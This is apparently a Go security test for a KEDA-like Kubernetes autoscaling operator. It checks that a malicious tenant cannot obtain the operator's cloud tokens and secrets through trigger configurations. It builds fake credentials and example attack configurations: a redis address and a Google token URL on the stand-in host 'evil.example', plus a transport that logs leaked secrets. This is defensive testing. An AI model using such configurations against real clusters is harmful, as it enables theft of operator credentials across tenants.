package auth_test

import (
	"bytes"
	"context"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/yaml"

	"github.com/scalerkit/scalerkit"
	"github.com/scalerkit/scalerkit/examples/operator/internal/auth/policy"
	"github.com/scalerkit/scalerkit/examples/operator/internal/auth/storetest"
	"github.com/scalerkit/scalerkit/keda/v1alpha1"
	"github.com/scalerkit/scalerkit/scalers/all"
)

const tenantID = "11111111-2222-3333-4444-555555555555"

// A victim is an operator that has an identity at every cloud.
type victim struct {
	*cluster
	files     map[string]string // paths, by what they are called in attacks
	secrets   []string          // what the API server or a cloud takes
	listed    []string          // IdentityEndpoints
	authority *storetest.Entra

	mu       sync.Mutex
	sent     []string // whole requests to hosts of the attacker
	dialed   []string // addresses of the attacker
	identity bool     // the trigger has the operator's identity
	received bytes.Buffer
}

// evil is the domain of the attacker.
const evil = "evil.example"

func newVictim(t *testing.T) *victim {
	v := &victim{cluster: newCluster(t, targets), files: make(map[string]string)}
	dir := t.TempDir()
	put := func(name, content string) {
		v.files[name] = filepath.Join(dir, name)
		require.NoError(t, os.WriteFile(v.files[name], []byte(content), 0o600))
	}
	tokens := map[string]string{
		"api":   v.operatorToken(apiServer),
		"both":  v.operatorToken("vault", apiServer),
		"aws":   v.operatorToken("sts.amazonaws.com"),
		"azure": v.operatorToken("api://AzureADTokenExchange"),
	}
	for name, token := range tokens {
		put(name, token)
		v.secrets = append(v.secrets, token)
	}
	put("vault", v.operatorToken("vault"))
	put("google", `{"type": "authorized_user", "refresh_token": "google-refresh-token"}`)
	v.secrets = append(v.secrets, "google-refresh-token", "operator-password", "operator-secret-key", "Bearer token-")
	for name, value := range map[string]string{
		"AWS_WEB_IDENTITY_TOKEN_FILE":    v.files["aws"],
		"AWS_ROLE_ARN":                   "arn:aws:iam::123456789012:role/operator",
		"AWS_ACCESS_KEY_ID":              "AKIAOPERATOR",
		"AWS_SECRET_ACCESS_KEY":          "operator-secret-key",
		"AWS_EC2_METADATA_DISABLED":      "true",
		"AWS_CONFIG_FILE":                filepath.Join(dir, "none"),
		"AWS_SHARED_CREDENTIALS_FILE":    filepath.Join(dir, "none"),
		"AZURE_FEDERATED_TOKEN_FILE":     v.files["azure"],
		"AZURE_CLIENT_ID":                "operator",
		"AZURE_TENANT_ID":                tenantID,
		"AZURE_AUTHORITY_HOST":           "",
		"GOOGLE_APPLICATION_CREDENTIALS": v.files["google"],
		"OPERATOR_PASSWORD":              "operator-password",
	} {
		t.Setenv(name, value)
	}
	v.authority = &storetest.Entra{Tenant: tenantID, Clients: values{"operator": tokens["azure"]}}
	v.TokenPolicy = audiences(t, "[{audience: vault}, {audience: sts.amazonaws.com, namespace: keda, serviceAccountName: scaler}]")
	v.VaultTokenFile = v.files["vault"]
	v.Transport = v
	v.LookupEnv = os.LookupEnv
	v.FileRoot = dir
	v.pod([]corev1.EnvVar{{Name: "OWN", Value: "$(OPERATOR_PASSWORD)"}})
	return v
}

// targets are what an attacker would like to have, and the authentication.
const targets = `
apiVersion: v1
kind: Secret
metadata: {namespace: keda, name: operator}
stringData: {password: operator-password}
---
apiVersion: v1
kind: ServiceAccount
metadata: {namespace: keda, name: scaler}
---
apiVersion: v1
kind: ServiceAccount
metadata: {namespace: shop, name: scaler}
---
apiVersion: v1
kind: Secret
metadata: {namespace: shop, name: own}
stringData:
  google: |
    {"type": "external_account", "audience": "//iam.googleapis.com/x", "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
     "token_url": "https://sts.evil.example/token", "credential_source": {"file": "FILE"}}
  resource: api://rabbitmq
---
apiVersion: keda.sh/v1alpha1
kind: TriggerAuthentication
metadata: {namespace: shop, name: id}
spec: {}
`

// RoundTrip implements http.RoundTripper: the Internet, with the attacker in it.
func (v *victim) RoundTrip(r *http.Request) (*http.Response, error) {
	answer := httptest.NewRecorder()
	switch {
	case strings.HasPrefix(r.URL.Hostname(), "login.microsoftonline."):
		return storetest.Hosts{r.URL.Host: v.authority}.RoundTrip(r)
	case strings.HasSuffix(r.URL.Hostname(), evil):
		all, err := httputil.DumpRequest(r, r.Body != nil)
		if err != nil {
			return nil, err
		}
		v.mu.Lock()
		v.sent = append(v.sent, r.URL.String()+"\n"+string(all))
		v.mu.Unlock()
		_, _ = answer.WriteString(`{"auth": {"client_token": "t", "lease_duration": 60}, "data": {"password": "p"}, "access_token": "t", "token_type": "Bearer",
			"expires_in": 3600, "issuer": "https://login.evil.example/` + tenantID + `/v2.0", "token_endpoint": "https://login.evil.example/token", "authorization_endpoint": "https://login.evil.example/a"}`)
	default:
		answer.WriteHeader(http.StatusForbidden)
	}
	result := answer.Result()
	result.Request = r
	return result, nil
}

func (v *victim) dial(_ context.Context, _, address string) (net.Conn, error) {
	if host, _, _ := net.SplitHostPort(address); strings.HasSuffix(host, evil) {
		v.mu.Lock()
		v.dialed = append(v.dialed, address)
		v.mu.Unlock()
	}
	return nil, errors.New("nobody is there")
}

// An attack is what a tenant may write, and why it fails. {api} and the like are
// paths of the operator's files.
type attack struct{ authentication, trigger, want string }

// redisTrigger goes where the attacker says with all the parameters that an
// authentication has.
const redisTrigger = `{type: redis, metadata: {address: "redis.evil.example:6379", listName: l}}`

// expand replaces the names of files by their paths.
func (v *victim) expand(text string) string {
	for name, path := range v.files {
		text = strings.ReplaceAll(text, "{"+name+"}", path)
	}
	return text
}

// run carries an attack out and returns why it failed.
func (v *victim) run(t *testing.T, a attack) error {
	ta := &v1alpha1.TriggerAuthentication{ObjectMeta: meta("shop", "id")}
	require.NoError(t, yaml.UnmarshalStrict([]byte(v.expand(a.authentication)), &ta.Spec), a.authentication)
	v.put(t, ta)
	var trigger v1alpha1.ScaleTriggers
	require.NoError(t, yaml.UnmarshalStrict([]byte(v.expand(a.trigger)), &trigger), a.trigger)
	trigger.AuthenticationRef = &v1alpha1.AuthenticationRef{Name: "id"}
	v.Resolver.IdentityEndpoints = v.listed
	resolved, err := v.Spec(t.Context(), trigger, v.owner)
	if err != nil {
		return err
	}
	v.identity = resolved.Spec.Identity.IsSet()
	for key, secret := range resolved.Spec.Auth {
		v.received.WriteString(key + "=" + secret.Reveal() + "\n") // the address is the attacker's
	}
	scaler, err := all.Registry().Open(resolved.Spec, scalerkit.Options{
		HTTPClient: &http.Client{Transport: v}, Dial: v.dial, IdentityEndpoints: v.listed,
		Warn: func(scalerkit.ConfigError) {},
	})
	if err != nil {
		return err
	}
	defer scaler.Close()
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	_, err = scaler.Read(ctx)
	return err
}

// loot returns what the attacker has got of what a cloud or the API server
// takes, and connections that would have brought it.
func (v *victim) loot() (loot []string) {
	v.mu.Lock()
	defer v.mu.Unlock()
	all := strings.Join(append(v.sent, v.received.String()), "\n")
	for _, secret := range v.secrets {
		if strings.Contains(all, secret) {
			loot = append(loot, secret)
		}
	}
	if v.identity {
		loot = append(loot, v.dialed...) // what comes next is a token
	}
	return loot
}

func TestAttackerGetsNothingOfTheOperator(t *testing.T) {
	for name, a := range attacks {
		t.Run(name, func(t *testing.T) {
			v := newVictim(t)
			err := v.run(t, a)
			require.EqualError(t, err, v.expand(a.want))
			require.Empty(t, v.loot())
			require.Zero(t, v.tokens, "nor is a token requested")
		})
	}
}

// Without the rules the same attacks bring something.
func TestAttackerIsHeldOffByTheRules(t *testing.T) {
	legacy := func(v *victim) { v.TokenPolicy = policy.Tokens{Legacy: true} }
	listed := func(v *victim) { v.listed = []string{"*." + evil} }
	for name, without := range map[string]func(*victim){
		"Vault, the token for the API server":  legacy,
		"Vault, the token for AWS":             legacy,
		"a token of an account":                legacy,
		"Key Vault, a private cloud":           listed,
		"Key Vault, an authority":              listed,
		"Key Vault, an authority of the cloud": listed,
		"Blob, a private cloud":                listed,
		"Blob, an authority":                   listed,
		"Service Bus, an authority":            listed,
		"MSK, a broker":                        listed,
	} {
		t.Run(name, func(t *testing.T) {
			v := newVictim(t)
			without(v)
			_ = v.run(t, attacks[name]) // the attacker's answers may not be what they should be
			require.True(t, v.tokens > 0 || len(v.loot()) > 0)
		})
	}
}
